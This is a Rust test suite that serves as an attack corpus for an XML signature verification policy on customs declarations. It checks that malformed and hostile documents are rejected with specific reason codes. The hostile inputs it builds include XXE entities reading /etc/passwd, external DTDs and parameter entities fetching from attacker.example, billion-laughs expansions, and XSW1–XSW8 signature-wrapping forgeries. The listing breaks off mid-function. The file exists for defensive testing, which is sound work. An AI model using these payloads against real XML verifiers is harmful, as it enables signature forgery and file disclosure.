#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The attack corpus: hostile and broken declarations, each refused with the
//! specific reason code and ETSI sub-indication the customs policy assigns.
//!
//! Documents are made the way an attacker would: a broker signs a sample
//! declaration (XML-DSig or XAdES-B-B, RSA or ECDSA), then bytes and
//! strings are changed. Where an attack needs a *cryptographically valid*
//! signature of an unusual shape (a second reference, an `#id` reference, a
//! SHA-1 digest, …), [`resign`] recomputes every digest and the signature
//! value with a key the attacker holds, so the refusal proven here is the
//! policy's, not an accidental digest failure.
//!
//! Every case is verified with `tamga_policy::verify_document_with`, on the
//! tree route and on the streaming route (which must agree), customs
//! profile, at the demo PKI's generation time unless the case says otherwise.

use std::path::PathBuf;
use std::sync::OnceLock;

use base64::Engine;
use tamga_declaration::{sample, SampleSpec};
use tamga_dsig::reference::digest_reference;
use tamga_dsig::{
    find_signatures, parse_signature, sign_enveloped, signed_info_octets, Budget, DigestAlgorithm,
    NoExternal, Reference, SignOptions, Signer, SigningKey, Transform,
};
use tamga_pki::{generate, BrokerKind, CountryPki, DemoPki, DemoPkiOptions, Issued};
use tamga_policy::{
    verify_document_with, Indication, Policy, Report, Strategy, SubIndication, VerifyRequest,
};
use tamga_trust::{CountryCode, TrustList};
use tamga_xml::{Document, ParseLimits};

const NS: &str = "urn:tamga:declaration:1";
const DS: &str = "http://www.w3.org/2000/09/xmldsig#";
const LRN: &str = "KZ26TMG0000000001";
const DECL_ID: &str = "decl-KZ26TMG0000000001";
const PROLOG: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";

const DAY: i64 = 86_400;

// ---------------------------------------------------------------------------
// The world: one demo PKI per test binary.
// ---------------------------------------------------------------------------

struct World {
    /// Generation time of the demo PKI; the default validation time.
    now: i64,
    /// KZ and TR.
    pki: DemoPki,
    /// A second, unrelated "KZ" PKI: same names, different keys.
    rogue: DemoPki,
    /// `trust/` as `tamga pki demo` writes it.
    trust: TrustList,
    /// The same, without `trust/KZ/issuing-ca.crl`.
    trust_no_issuing_crl: TrustList,
    /// The same, without any KZ CRL.
    trust_no_crls: TrustList,
}

fn world() -> &'static World {
    static WORLD: OnceLock<World> = OnceLock::new();
    WORLD.get_or_init(|| {
        let now = time::OffsetDateTime::now_utc().unix_timestamp();
        let pki = generate(&DemoPkiOptions::new(["KZ", "TR"], now)).expect("demo PKI");
        let rogue = generate(&DemoPkiOptions::new(["KZ"], now)).expect("rogue PKI");
        let dir = tempfile::tempdir().expect("tempdir");
        pki.write_to(dir.path()).expect("write demo PKI");
        let trust_dir = dir.path().join("trust");
        let trust = TrustList::load_dir(&trust_dir).expect("trust list");
        std::fs::remove_file(trust_dir.join("KZ").join("issuing-ca.crl")).unwrap();
        let trust_no_issuing_crl = TrustList::load_dir(&trust_dir).expect("trust list");
        std::fs::remove_file(trust_dir.join("KZ").join("root-ca.crl")).unwrap();
        let trust_no_crls = TrustList::load_dir(&trust_dir).expect("trust list");
        World {
            now,
            pki,
            rogue,
            trust,
            trust_no_issuing_crl,
            trust_no_crls,
        }
    })
}

fn country<'a>(pki: &'a DemoPki, cc: &str) -> &'a CountryPki {
    pki.country(cc).expect("country in demo PKI")
}

fn broker(pki: &'static DemoPki, cc: &str, kind: BrokerKind) -> &'static Issued {
    country(pki, cc).broker(kind).expect("broker")
}

fn key_of(issued: &Issued) -> SigningKey {
    SigningKey::from_pkcs8_pem(issued.key_pkcs8_pem.as_bytes()).expect("signing key")
}

/// The unsigned sample declaration every case starts from.
fn declaration() -> String {
    sample(&SampleSpec::new("KZ", "AZ", 1, 2))
}

/// Signs `doc` with `signer` of `c`, chain = the issuing CA of `c`.
fn sign_as(c: &CountryPki, signer: &Issued, xades: bool, doc: &str) -> String {
    let out = sign_enveloped(
        doc.as_bytes(),
        &key_of(signer),
        &SignOptions {
            certificates: vec![signer.cert_der.clone(), c.issuing.cert_der.clone()],
            digest: DigestAlgorithm::Sha256,
            xades,
            signing_time: time::OffsetDateTime::from_unix_timestamp(world().now).unwrap(),
            limits: ParseLimits::default(),
        },
    )
    .expect("sign_enveloped");
    String::from_utf8(out).expect("signed output is UTF-8")
}

fn signed(cc: &str, kind: BrokerKind, xades: bool) -> String {
    let w = world();
    // The declaration states the signer's country as its origin.
    let doc = if cc == "KZ" {
        declaration()
    } else {
        sample(&SampleSpec::new(cc, "AZ", 1, 2))
    };
    sign_as(country(&w.pki, cc), broker(&w.pki, cc, kind), xades, &doc)
}

/// KZ ECDSA broker, plain XML-DSig: the workhorse.
fn ecdsa() -> String {
    signed("KZ", BrokerKind::Ecdsa, false)
}

/// KZ ECDSA broker, XAdES-B-B.
fn ecdsa_xades() -> String {
    signed("KZ", BrokerKind::Ecdsa, true)
}

fn kz_ecdsa_key() -> SigningKey {
    key_of(broker(&world().pki, "KZ", BrokerKind::Ecdsa))
}

/// A KZ ECDSA XML-DSig signature whose document reference is
/// `URI="#decl-…"` (the form XSW attacks target), re-signed so it is valid.
fn ecdsa_idref() -> String {
    resign(
        &replace1(&ecdsa(), "<ds:Reference URI=\"\">", &idref_open()),
        &kz_ecdsa_key(),
    )
}

fn ecdsa_xades_idref() -> String {
    resign(
        &replace1(&ecdsa_xades(), "<ds:Reference URI=\"\">", &idref_open()),
        &kz_ecdsa_key(),
    )
}

fn idref_open() -> String {
    format!("<ds:Reference URI=\"#{DECL_ID}\">")
}

// ---------------------------------------------------------------------------
// String surgery.
// ---------------------------------------------------------------------------

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Replaces the first occurrence; the pattern must be there (else the test
/// itself is wrong).
fn replace1(s: &str, from: &str, to: &str) -> String {
    assert!(s.contains(from), "test bug: {from:?} not in document");
    s.replacen(from, to, 1)
}

/// The `<ds:Signature …>…</ds:Signature>` element (the first one).
fn sig_of(doc: &str) -> String {
    let a = doc.find("<ds:Signature").expect("a signature");
    let b = doc.find("</ds:Signature>").expect("signature end") + "</ds:Signature>".len();
    doc[a..b].to_string()
}

/// The document without its signature.
fn strip_sig(doc: &str) -> String {
    doc.replacen(&sig_of(doc), "", 1)
}

/// The document element (everything after the XML declaration).
fn element_of(doc: &str) -> String {
    doc.strip_prefix(PROLOG)
        .expect("XML declaration")
        .trim_end()
        .to_string()
}

/// Inserts `what` just before `</ds:Signature>` of the (first) signature.
fn into_signature(sig: &str, what: &str) -> String {
    replace1(sig, "</ds:Signature>", &format!("{what}</ds:Signature>"))
}

/// Inserts `what` right before `</Declaration>` (the last one).
fn before_root_end(doc: &str, what: &str) -> String {
    let i = doc.rfind("</Declaration>").expect("root end");
    format!("{}{what}{}", &doc[..i], &doc[i..])
}

/// Inserts `what` right after `<Header>`.
fn into_header(doc: &str, what: &str) -> String {
    replace1(doc, "<Header>", &format!("<Header>{what}"))
}

/// The forged twin of the declaration: another LRN (hence another Id), and a
/// much smaller value.
fn forge(decl_without_sig: &str) -> String {
    decl_without_sig.replace(LRN, "KZ26TMG9999999999").replace(
        "<Value currency=\"USD\">6243.38</Value>",
        "<Value currency=\"USD\">1.00</Value>",
    )
}

/// A new document element `<Declaration Id="decl-KZ26TMG9999999999">` with
/// forged content, then `inner`.
fn forged_root_with(inner: &str) -> String {
    let forged = element_of(&forge(&strip_sig(&ecdsa())));
    let i = forged.rfind("</Declaration>").unwrap();
    format!("{PROLOG}{}{inner}{}\n", &forged[..i], &forged[i..])
}

/// Recomputes every reference digest of the first signature (where the
/// engine can compute it) and writes the new `DigestValue`s.
fn redigest(doc: &str) -> String {
    let limits = ParseLimits::default();
    let digests: Vec<Option<String>> = {
        let parsed = Document::parse(doc.as_bytes(), &limits).expect("resign: parse");
        let sig_el = find_signatures(&parsed)[0];
        let model = parse_signature(sig_el, &Budget::default()).expect("resign: signature");
        model
            .references
            .iter()
            .map(|r| {
                digest_reference(&parsed, sig_el, r, &NoExternal, &limits)
                    .ok()
                    .map(|d| b64(&d))
            })
            .collect()
    };
    let si_start = doc.find("<ds:SignedInfo").expect("SignedInfo");
    let si_end = si_start
        + doc[si_start..]
            .find("</ds:SignedInfo>")
            .expect("SignedInfo end");
    let mut out = String::from(&doc[..si_start]);
    let mut rest = &doc[si_start..si_end];
    for d in digests {
        let open = rest.find("<ds:DigestValue>").expect("DigestValue") + "<ds:DigestValue>".len();
        out.push_str(&rest[..open]);
        let close = open
            + rest[open..]
                .find("</ds:DigestValue>")
                .expect("DigestValue end");
        match d {
            Some(v) => out.push_str(&v),
            None => out.push_str(&rest[open..close]),
        }
        rest = &rest[close..];
    }
    out.push_str(rest);
    out.push_str(&doc[si_end..]);
    out
}

/// What an attacker holding `key` can do: recompute the digests and sign the
/// (modified) `SignedInfo` again.
fn resign(doc: &str, key: &SigningKey) -> String {
    let doc = redigest(doc);
    let value = {
        let parsed = Document::parse(doc.as_bytes(), &ParseLimits::default()).expect("parse");
        let sig_el = find_signatures(&parsed)[0];
        let model = parse_signature(sig_el, &Budget::default()).expect("signature");
        let octets = signed_info_octets(&parsed, &model).expect("SignedInfo c14n");
        b64(&key.sign(&octets).expect("sign"))
    };
    let a = doc.find("<ds:SignatureValue").expect("SignatureValue");
    let open = a + doc[a..].find('>').unwrap() + 1;
    let close = open + doc[open..].find("</ds:SignatureValue>").unwrap();
    format!("{}{value}{}", &doc[..open], &doc[close..])
}

// ---------------------------------------------------------------------------
// Cases.
// ---------------------------------------------------------------------------

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Expect {
    Pass,
    Reject(&'static str, SubIndication),
}

use Expect::{Pass, Reject};

#[derive(Clone, Copy)]
enum Trust {
    Full,
    NoIssuingCrl,
    NoCrls,
}

struct Case {
    name: String,
    bytes: Vec<u8>,
    origin: &'static str,
    at: i64,
    policy: Policy,
    trust: Trust,
    expect: Expect,
}

fn case(name: impl Into<String>, bytes: impl Into<Vec<u8>>, expect: Expect) -> Case {
    Case {
        name: name.into(),
        bytes: bytes.into(),
        origin: "KZ",
        at: world().now,
        policy: Policy::customs(),
        trust: Trust::Full,
        expect,
    }
}

impl Case {
    fn origin(mut self, cc: &'static str) -> Self {
        self.origin = cc;
        self
    }
    fn at(mut self, at: i64) -> Self {
        self.at = at;
        self
    }
    fn policy(mut self, p: Policy) -> Self {
        self.policy = p;
        self
    }
    fn trust(mut self, t: Trust) -> Self {
        self.trust = t;
        self
    }
}

fn verify(c: &Case) -> Report {
    let w = world();
    let trust = match c.trust {
        Trust::Full => &w.trust,
        Trust::NoIssuingCrl => &w.trust_no_issuing_crl,
        Trust::NoCrls => &w.trust_no_crls,
    };
    let req = VerifyRequest {
        bytes: &c.bytes,
        trust,
        origin: c.origin.parse::<CountryCode>().expect("country"),
        at_unix: c.at,
        policy: &c.policy,
        resolver: &NoExternal,
        hmac_secret: None,
    };
    // Both routes, whatever the size: the streaming route (or the tree it
    // hands a document to) must give the tree's report, field for field.
    let tree = verify_document_with(&req, Strategy::Tree).0;
    let (streamed, route) = verify_document_with(&req, Strategy::Streaming);
    assert_eq!(
        streamed, tree,
        "[{}] the streaming route ({route:?}) disagrees with the tree",
        c.name
    );
    tree
}

/// A standalone run of 9 to 11 digits (what Unix seconds look like today),
/// or the words "Unix time".
fn unix_time_in(message: &str) -> Option<String> {
    if message.contains("Unix time") {
        return Some("(\"Unix time\")".into());
    }
    message
        .split(|c: char| !c.is_ascii_alphanumeric())
        .find(|w| (9..=11).contains(&w.len()) && w.bytes().all(|b| b.is_ascii_digit()))
        .map(str::to_string)
}

/// Verifies every case (each in a panic guard: a panic is a finding, not a
/// crash of the corpus) and fails with one line per mismatch.
fn run(group: &str, cases: Vec<Case>) {
    assert!(!cases.is_empty());
    let mut failures = Vec::new();
    for c in &cases {
        let report = match std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| verify(c))) {
            Ok(r) => r,
            Err(_) => {
                failures.push(format!("[{}] PANIC in verify_document_with", c.name));
                continue;
            }
        };
        // Times in messages are RFC 3339 (people read them), never Unix seconds.
        let messages = std::iter::once(&report.message)
            .chain(report.counter_signatures.iter().map(|c| &c.message))
            .chain(report.timestamps.iter().map(|t| &t.message));
        for m in messages {
            if let Some(n) = unix_time_in(m) {
                failures.push(format!("[{}] a bare Unix time {n} in: {m}", c.name));
            }
        }
        let got = (report.reason, report.sub_indication);
        let ok = match c.expect {
            Pass => {
                report.indication == Indication::TotalPassed
                    && report.reason.is_none()
                    && report.signature_intact
            }
            Reject(code, sub) => {
                report.reason == Some(code)
                    && report.sub_indication == Some(sub)
                    && report.indication == sub.indication()
                    && !report.message.is_empty()
            }
        };
        if !ok {
            failures.push(format!(
                "[{}] expected {:?}, got {:?} / {:?} / {:?}: {}",
                c.name, c.expect, report.indication, got.0, got.1, report.message
            ));
        }
    }
    eprintln!("{group}: {} cases", cases.len());
    assert!(
        failures.is_empty(),
        "{group}: {} of {} cases wrong:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

use SubIndication as S;

// ---------------------------------------------------------------------------
// Baselines: the genuine documents the attacks start from do verify.
// ---------------------------------------------------------------------------

#[test]
fn baselines_verify() {
    run(
        "baselines",
        vec![
            case("KZ ECDSA XML-DSig", ecdsa(), Pass),
            case("KZ ECDSA XAdES", ecdsa_xades(), Pass),
            case(
                "KZ RSA XML-DSig",
                signed("KZ", BrokerKind::Rsa, false),
                Pass,
            ),
            case("KZ RSA XAdES", signed("KZ", BrokerKind::Rsa, true), Pass),
            case(
                "TR ECDSA from TR",
                signed("TR", BrokerKind::Ecdsa, true),
                Pass,
            )
            .origin("TR"),
            case(
                "KZ ECDSA, URI=#id of the document element",
                ecdsa_idref(),
                Pass,
            ),
            case("KZ ECDSA XAdES, URI=#id", ecdsa_xades_idref(), Pass),
            case(
                "the resign helper reproduces a valid signature",
                resign(&ecdsa(), &kz_ecdsa_key()),
                Pass,
            ),
        ],
    );
}

// ---------------------------------------------------------------------------
// Parser: refused before any signature logic.
// ---------------------------------------------------------------------------

fn with_doctype(doc: &str, doctype: &str) -> String {
    replace1(doc, PROLOG, &format!("{PROLOG}{doctype}\n"))
}

#[test]
fn parser_attacks() {
    let s = ecdsa();
    let ff = S::FormatFailure;
    let mut cases = vec![
        case("empty", Vec::new(), Reject("empty_document", ff)),
        case(
            "whitespace only",
            " \n\t\r\n ",
            Reject("empty_document", ff),
        ),
        case(
            "unsigned declaration",
            declaration(),
            Reject("no_signature", ff),
        ),
    ];

    // Truncated: at half (on a char boundary) and just before the root's end tag.
    let mut half = s.len() / 2;
    while !s.is_char_boundary(half) {
        half -= 1;
    }
    cases.push(case(
        "truncated at half",
        &s.as_bytes()[..half],
        Reject("malformed_xml", ff),
    ));
    let end = s.rfind("</Declaration>").unwrap();
    cases.push(case(
        "truncated before </Declaration>",
        &s.as_bytes()[..end],
        Reject("malformed_xml", ff),
    ));

    // Binary and NUL.
    cases.push(case(
        "binary (zip header)",
        b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec(),
        Reject("malformed_xml", ff),
    ));
    cases.push(case(
        "control bytes",
        b"\x00\x01\x02\x03\x04".to_vec(),
        Reject("malformed_xml", ff),
    ));
    cases.push(case(
        "NUL inside signed text",
        replace1(&s, LRN, "KZ26TMG\u{0}0000000001"),
        Reject("malformed_xml", ff),
    ));

    // Encodings.
    let mut bad = s.clone().into_bytes();
    let at = s.find(LRN).unwrap();
    bad[at] = 0xFF;
    cases.push(case("non-UTF-8 byte 0xFF", bad, Reject("not_utf8", ff)));
    let mut latin1 = replace1(&s, "encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"").into_bytes();
    cases.push(case(
        "declared ISO-8859-1 (UTF-8 body)",
        latin1.clone(),
        Reject("unsupported_encoding", ff),
    ));
    // Genuinely Latin-1 bytes (a 0xE7 'ç' in the text) under that declaration.
    let at = String::from_utf8(latin1.clone())
        .unwrap()
        .find("<DeclarationType>EX")
        .unwrap()
        + "<DeclarationType>".len();
    latin1[at] = 0xE7;
    cases.push(case(
        "declared ISO-8859-1 with a Latin-1 byte",
        latin1,
        Reject("not_utf8", ff),
    ));
    let mut utf16 = vec![0xFF, 0xFE];
    for u in s.replace("UTF-8", "UTF-16").encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    cases.push(case("UTF-16LE with BOM", utf16, Reject("not_utf8", ff)));
    cases.push(case(
        "declared UTF-16 (UTF-8 body)",
        replace1(&s, "encoding=\"UTF-8\"", "encoding=\"UTF-16\""),
        Reject("unsupported_encoding", ff),
    ));
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend_from_slice(s.as_bytes());
    // A UTF-8 BOM is not part of the infoset: same canonical form.
    cases.push(case("UTF-8 BOM prepended", bom, Pass));

    // DOCTYPE in every shape: refused before the internal subset is read.
    let doctypes = [
        ("DOCTYPE with internal subset", "<!DOCTYPE Declaration [<!ELEMENT Declaration ANY>]>".to_string()),
        (
            "billion laughs",
            concat!(
                "<!DOCTYPE Declaration [<!ENTITY lol \"lol\">",
                "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">",
                "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">",
                "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>"
            )
            .to_string(),
        ),
        ("external entity file:///etc/passwd", "<!DOCTYPE Declaration [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>".to_string()),
        ("external DTD", "<!DOCTYPE Declaration SYSTEM \"http://attacker.example/declaration.dtd\">".to_string()),
        ("public external DTD", "<!DOCTYPE Declaration PUBLIC \"-//EVIL//DTD D//EN\" \"http://attacker.example/d.dtd\">".to_string()),
        ("parameter entities", "<!DOCTYPE Declaration [<!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote;]>".to_string()),
        ("ATTLIST declaring another ID attribute", "<!DOCTYPE Declaration [<!ATTLIST GoodsItem seq ID #IMPLIED>]>".to_string()),
    ];
    for (name, dt) in doctypes {
        cases.push(case(
            name,
            with_doctype(&s, &dt),
            Reject("doctype_forbidden", ff),
        ));
    }
    // The entity actually used in signed text, as an XXE would.
    let xxe = with_doctype(
        &replace1(&s, &format!("<LRN>{LRN}</LRN>"), "<LRN>&xxe;</LRN>"),
        "<!DOCTYPE Declaration [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
    );
    cases.push(case(
        "XXE used in <LRN>",
        xxe,
        Reject("doctype_forbidden", ff),
    ));
    let lol = with_doctype(
        &replace1(&s, &format!("<LRN>{LRN}</LRN>"), "<LRN>&lol4;</LRN>"),
        "<!DOCTYPE Declaration [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>",
    );
    cases.push(case(
        "billion laughs used in <LRN>",
        lol,
        Reject("doctype_forbidden", ff),
    ));

    // An entity that was never declared: a well-formedness error, named.
    cases.push(case(
        "undeclared entity &ext;",
        replace1(&s, &format!("<LRN>{LRN}</LRN>"), "<LRN>&ext;</LRN>"),
        Reject("malformed_xml", ff),
    ));

    // Limits.
    let small = Policy {
        limits: tamga_policy::Limits {
            max_bytes: 4096,
            ..Default::default()
        },
        ..Policy::customs()
    };
    cases.push(
        case(
            "over max_bytes (4 KiB policy)",
            s.clone(),
            Reject("document_too_large", ff),
        )
        .policy(small),
    );
    let deep = |n: usize| into_header(&s, &format!("{}{}", "<x>".repeat(n), "</x>".repeat(n)));
    // Header is at depth 2: 255 more is depth 257, one over the default.
    cases.push(case(
        "depth 257 (default max_depth 256)",
        deep(255),
        Reject("too_deep", ff),
    ));
    cases.push(case(
        "200 nested elements (default max_depth 256: fine)",
        deep(200),
        Reject("digest_mismatch", S::HashFailure),
    ));
    let shallow = Policy {
        limits: tamga_policy::Limits {
            max_depth: 8,
            ..Default::default()
        },
        ..Policy::customs()
    };
    cases.push(
        case(
            "12 nested elements (max_depth 8 policy)",
            deep(10),
            Reject("too_deep", ff),
        )
        .policy(shallow),
    );
    let attrs: String = (0..65).map(|i| format!(" a{i}=\"{i}\"")).collect();
    cases.push(case(
        "65 attributes on one element",
        replace1(
            &s,
            "<GoodsItem seq=\"1\"",
            &format!("<GoodsItem seq=\"1\"{attrs}"),
        ),
        Reject("too_many_attributes", ff),
    ));
    let huge = "A".repeat(9 * 1024 * 1024);
    cases.push(case(
        "9 MiB text node",
        replace1(&s, "<HSCode>", &format!("<HSCode>{huge}")),
        Reject("text_too_large", ff),
    ));
    let few_nodes = Policy {
        limits: tamga_policy::Limits {
            max_nodes: 100,
            ..Default::default()
        },
        ..Policy::customs()
    };
    cases.push(
        case(
            "over max_nodes (100 policy)",
            s.clone(),
            Reject("too_many_nodes", ff),
        )
        .policy(few_nodes),
    );

    // Duplicate IDs, in every spelling Tamga treats as an ID.
    for (name, attr) in [("Id", "Id"), ("ID", "ID"), ("xml:id", "xml:id")] {
        cases.push(case(
            format!("duplicate of the document element's Id as {name}"),
            into_header(&s, &format!("<Extra {attr}=\"{DECL_ID}\"/>")),
            Reject("duplicate_id", ff),
        ));
    }
    let sig_id = sig_of(&s)
        .split("Id=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_string();
    cases.push(case(
        "duplicate of the signature's Id",
        into_header(&s, &format!("<Extra Id=\"{sig_id}\"/>")),
        Reject("duplicate_id", ff),
    ));

    // Processing instructions. Decision: a PI is never acted upon; like any
    // other node of the URI="" node-set it is covered by the digest. Present
    // at signing time: verifies. Injected afterwards: digest_mismatch.
    let pi = "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/render.xsl\"?>";
    let pi_doc = replace1(&declaration(), PROLOG, &format!("{PROLOG}{pi}\n"));
    let w = world();
    cases.push(case(
        "xml-stylesheet PI present when signed",
        sign_as(
            country(&w.pki, "KZ"),
            broker(&w.pki, "KZ", BrokerKind::Ecdsa),
            false,
            &pi_doc,
        ),
        Pass,
    ));
    cases.push(case(
        "xml-stylesheet PI injected in the prolog after signing",
        replace1(&s, PROLOG, &format!("{PROLOG}{pi}\n")),
        Reject("digest_mismatch", S::HashFailure),
    ));
    cases.push(case(
        "PI injected inside the document element after signing",
        into_header(&s, "<?evil run?>"),
        Reject("digest_mismatch", S::HashFailure),
    ));
    // CDATA is not in the canonical form: same text, same digest.
    cases.push(case(
        "LRN rewritten as CDATA (same text)",
        replace1(
            &s,
            &format!("<LRN>{LRN}</LRN>"),
            &format!("<LRN><![CDATA[{LRN}]]></LRN>"),
        ),
        Pass,
    ));
    run("parser", cases);
}

/// Nesting beyond libxml2's own limit must still be reported as `too_deep`,
/// the code the policy has for it, not as `malformed_xml` with a libxml2
/// hint about `XML_PARSE_HUGE`. Today only depth 257 gets `too_deep` (from
/// tamga-xml's scan); from depth 258 libxml2 stops first ("Excessive depth in
/// document: 256") and tamga-xml maps that to `ParseError::Malformed`. For
/// the same reason a policy `max_depth` above 256 is not honoured. Kept apart
/// from `parser_attacks` because it fails until tamga-xml is fixed (see the
/// report).
#[test]
fn too_deep_beyond_libxml_limit() {
    let s = ecdsa();
    let deep = |n: usize| into_header(&s, &format!("{}{}", "<x>".repeat(n), "</x>".repeat(n)));
    let ff = S::FormatFailure;
    let deeper = Policy {
        limits: tamga_policy::Limits {
            max_depth: 300,
            ..Default::default()
        },
        ..Policy::customs()
    };
    run(
        "depth",
        vec![
            case(
                "300 nested elements (default max_depth 256)",
                deep(300),
                Reject("too_deep", ff),
            ),
            case(
                "10 000 nested elements",
                deep(10_000),
                Reject("too_deep", ff),
            ),
            // libxml2's own limit (256, no XML_PARSE_HUGE) caps any policy:
            // Policy::from_toml refuses max_depth above it, and a document
            // deeper than 256 is `too_deep` whatever the struct says.
            case(
                "280 nested elements under a max_depth 300 policy",
                deep(280),
                Reject("too_deep", S::FormatFailure),
            )
            .policy(deeper),
        ],
    );
}

#[test]
fn undeclared_entity_is_named() {
    let s = ecdsa();
    let c = case(
        "undeclared entity",
        replace1(&s, &format!("<LRN>{LRN}</LRN>"), "<LRN>&ext;</LRN>"),
        Pass,
    );
    let r = verify(&c);
    assert_eq!(r.reason, Some("malformed_xml"));
    assert!(r.message.contains("ext"), "{}", r.message);
}

// ---------------------------------------------------------------------------
// Signature wrapping (XSW1–XSW8 adapted to an enveloped declaration).
// ---------------------------------------------------------------------------

#[test]
fn signature_wrapping() {
    let id = ecdsa_idref();
    let orig = element_of(&strip_sig(&id)); // signed Declaration, signature removed
    let orig_with_sig = element_of(&id);
    let sig = sig_of(&id);
    let sdnf = S::SignedDataNotFound;
    let scf = S::SigConstraintsFailure;
    let mut cases = Vec::new();

    // XSW1: forged document element; the original, intact, inside the
    // signature's ds:Object (where its digest still matches).
    cases.push(case(
        "XSW1 original in ds:Object, forged root",
        forged_root_with(&into_signature(
            &sig,
            &format!("<ds:Object>{orig}</ds:Object>"),
        )),
        Reject("signature_wrapping", sdnf),
    ));
    // XSW1b: the original as a direct child of ds:Signature (schema violation).
    cases.push(case(
        "XSW1b original as a direct child of ds:Signature",
        forged_root_with(&into_signature(&sig, &orig)),
        Reject("malformed_signature", S::FormatFailure),
    ));
    // XSW2: the original as a detached sibling before the signature.
    cases.push(case(
        "XSW2 original as a sibling before the signature",
        forged_root_with(&format!("{orig}{sig}")),
        Reject("unexpected_reference", scf),
    ));
    // XSW3: forged and original Declarations side by side under a new root.
    let forged_el = element_of(&forge(&strip_sig(&ecdsa())));
    cases.push(case(
        "XSW3 forged Declaration before the original, new root",
        format!("{PROLOG}<Envelope xmlns=\"{NS}\">{forged_el}{orig_with_sig}</Envelope>\n"),
        Reject("signature_wrapping", sdnf),
    ));
    // XSW4: the forged declaration wraps the original (which keeps its signature).
    cases.push(case(
        "XSW4 forged root wraps the signed original",
        forged_root_with(&orig_with_sig),
        Reject("signature_wrapping", sdnf),
    ));
    cases.push(case(
        "XSW4 with URI=\"\" (the demo's forgery)",
        forged_root_with(&format!("<Extension>{}</Extension>", element_of(&ecdsa()))),
        Reject("signature_wrapping", sdnf),
    ));
    // XSW5: the forgery takes the original's Id and the signature; the
    // original is kept in an extension element.
    let forged_same_id = element_of(&strip_sig(&id))
        .replace(&format!("<LRN>{LRN}</LRN>"), "<LRN>KZ26TMG9999999999</LRN>");
    let i = forged_same_id.rfind("</Declaration>").unwrap();
    cases.push(case(
        "XSW5 copy of the signed element with the same Id",
        format!(
            "{PROLOG}{}<Extension>{orig}</Extension>{sig}{}\n",
            &forged_same_id[..i],
            &forged_same_id[i..]
        ),
        Reject("duplicate_id", S::FormatFailure),
    ));
    // XSW6: XAdES signature; the original is placed in a further ds:Object
    // next to the QualifyingProperties.
    let idx = ecdsa_xades_idref();
    let orig_x = element_of(&strip_sig(&idx));
    cases.push(case(
        "XSW6 XAdES: original in a second ds:Object",
        forged_root_with(&into_signature(
            &sig_of(&idx),
            &format!("<ds:Object>{orig_x}</ds:Object>"),
        )),
        Reject("signature_wrapping", sdnf),
    ));
    // XSW7: the original hidden in an extension element of the forgery.
    cases.push(case(
        "XSW7 original inside <Extensions> of the forged root",
        forged_root_with(&format!("<Extensions>{orig}</Extensions>{sig}")),
        Reject("unexpected_reference", scf),
    ));
    // XSW8: the original inside an extension element inside ds:Object.
    cases.push(case(
        "XSW8 original in <Extensions> inside ds:Object",
        forged_root_with(&into_signature(
            &sig,
            &format!("<ds:Object><Extensions xmlns=\"{NS}\">{orig}</Extensions></ds:Object>"),
        )),
        Reject("signature_wrapping", sdnf),
    ));

    // The signature moved out of the document element (a new root holds both).
    cases.push(case(
        "signature moved out of the Declaration (URI=#id)",
        format!("{PROLOG}<Envelope xmlns=\"{NS}\">{orig}{sig}</Envelope>\n"),
        Reject("unexpected_reference", scf),
    ));
    let plain = ecdsa();
    cases.push(case(
        "signature moved out of the Declaration (URI=\"\")",
        format!(
            "{PROLOG}<Envelope xmlns=\"{NS}\">{}{}</Envelope>\n",
            element_of(&strip_sig(&plain)),
            sig_of(&plain)
        ),
        Reject("digest_mismatch", S::HashFailure),
    ));
    // The signature inside another element of the declaration.
    cases.push(case(
        "signature inside <Header>",
        into_header(&strip_sig(&plain), &sig_of(&plain)),
        Reject("signature_wrapping", sdnf),
    ));
    cases.push(case(
        "signature inside a GoodsItem",
        replace1(
            &strip_sig(&plain),
            "<GoodsItem seq=\"2\">",
            &format!("<GoodsItem seq=\"2\">{}", sig_of(&plain)),
        ),
        Reject("signature_wrapping", sdnf),
    ));
    // Position within the document element is irrelevant (enveloped transform).
    cases.push(case(
        "signature moved to the first child of the Declaration",
        replace1(
            &strip_sig(&plain),
            &format!("Id=\"{DECL_ID}\">"),
            &format!("Id=\"{DECL_ID}\">{}", sig_of(&plain)),
        ),
        Pass,
    ));

    // Second signatures.
    let second = sig_of(&plain).replace("tamga-sig-", "tamga-sig2-");
    cases.push(case(
        "a second signature next to the first",
        before_root_end(&plain, &second),
        Reject("multiple_signatures", S::FormatFailure),
    ));
    cases.push(case(
        "a second signature inside <Header>",
        into_header(&plain, &second),
        Reject("multiple_signatures", S::FormatFailure),
    ));
    cases.push(case(
        "a signature nested in the signature's ds:Object (not a counter-signature)",
        replace1(
            &plain,
            &sig_of(&plain),
            &into_signature(&sig_of(&plain), &format!("<ds:Object>{second}</ds:Object>")),
        ),
        Reject("signature_wrapping", sdnf),
    ));

    // References the customs profile does not sign.
    let key = kz_ecdsa_key();
    let exc_ref = |uri: &str| {
        format!(
